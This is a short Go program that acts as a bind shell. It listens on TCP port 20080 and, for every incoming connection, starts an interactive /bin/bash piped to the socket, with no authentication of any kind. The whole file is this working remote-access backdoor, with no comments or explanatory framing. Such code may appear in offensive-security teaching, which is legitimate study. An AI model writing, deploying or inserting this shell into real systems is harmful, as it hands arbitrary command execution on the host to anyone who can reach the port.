package main

import (
	"io"
	"log"
	"net"
	"os/exec"
)

func handle(conn net.Conn) {
	cmd := exec.Command("/bin/bash", "-i")
	rp, wp := io.Pipe()
	cmd.Stdin = conn
	cmd.Stdout = wp
	go io.Copy(conn, rp)
	cmd.Run()
	conn.Close()
}

func main() {
	l, err := net.Listen("tcp", ":20080")
	if err != nil {
		log.Fatalln(err)
	}
	for {
		c, err := l.Accept()
		if err != nil {
			log.Fatalln(err)
		}
		go handle(c)
	}
}
